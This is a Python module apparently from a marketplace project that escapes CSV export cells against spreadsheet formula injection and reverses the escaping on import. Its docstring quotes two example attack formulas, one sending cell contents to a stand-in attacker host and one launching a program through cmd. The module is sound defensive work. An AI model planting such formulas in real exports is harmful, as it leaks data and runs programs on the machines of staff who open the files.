"""CSV files a spreadsheet can open safely: the one writer of every export, and its inverse.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("https://evil.example?"&A1, "Click")`` sends the neighbouring cells away,
``=cmd|' /C calc'!A0`` asks to start a program), and some programs skip a leading tab or
carriage return and read what follows the same way. Product names, descriptions and options are typed by
merchants (or anyone who once had their password), and the operator or another staff member
opens the export in a spreadsheet: so every exported cell goes through ``cell_for_export``.

**The rule.** A cell that starts with one of those characters, or with an apostrophe, gets
one apostrophe in front (``=SUM(A1)`` → ``'=SUM(A1)``, ``'quoted`` → ``''quoted``). The
apostrophe is what spreadsheets themselves use for "this is text": the cell shows as
written. A plain number (``-5``, ``-0.25``) cannot run and is left alone, so amounts stay
numbers.

**The inverse.** ``cell_from_import`` removes exactly that apostrophe: one leading apostrophe
followed by a trigger character or by another apostrophe. So importing an exported file
gives back every cell as it was stored (the round trip changes nothing), and a cell a person
typed with a leading apostrophe before a formula character ("'=1", the spreadsheet way of
writing text) imports as that text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")  # ASCII digits (marketplace.digits)


def cell_for_export(value) -> str:
    """``value`` as a CSV cell that no spreadsheet executes (see the module docstring)."""
    text = "" if value is None else str(value)
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return text
    if text[0] in FORMULA_TRIGGERS or text[0] == ESCAPE:
        return ESCAPE + text
    return text


def cell_from_import(text: str) -> str:
    """Undo ``cell_for_export``: ``"'=SUM(A1)"`` → ``"=SUM(A1)"``, ``"''x"`` → ``"'x"``."""
    if len(text) > 1 and text[0] == ESCAPE and (text[1] in FORMULA_TRIGGERS or text[1] == ESCAPE):
        return text[1:]
    return text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """Each row as one line of CSV text, every cell through ``cell_for_export`` (for a
    streaming response). Every export of the project writes through this."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([cell_for_export(cell) for cell in row])
